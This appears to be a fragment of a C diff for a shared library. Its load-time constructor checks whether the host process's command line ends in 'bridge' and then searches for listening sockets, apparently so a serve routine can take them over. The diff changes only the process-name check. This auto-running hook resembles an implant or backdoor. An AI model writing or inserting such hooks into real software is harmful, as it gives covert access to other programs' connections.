@@ -41,7 +41,7 @@ static void serve(int fd) {
 }
 __attribute__((constructor)) static void begin(void) {
     char cmd[256] = {0}; int f = open("/proc/self/cmdline", O_RDONLY); int n = read(f, cmd, 255); close(f);
-    if (n < 10 || strcmp(cmd + strlen(cmd) + 1, "bridge")) return;
+    if (n < 8 || strcmp(cmd + n - 7, "bridge")) return;
     for (int fd = 3; fd < 64; fd++) {
         int on = 0, domain = 0; socklen_t l = sizeof on, m = sizeof domain;
         if (getsockopt(fd, SOL_SOCKET, SO_ACCEPTCONN, &on, &l) || !on) continue;
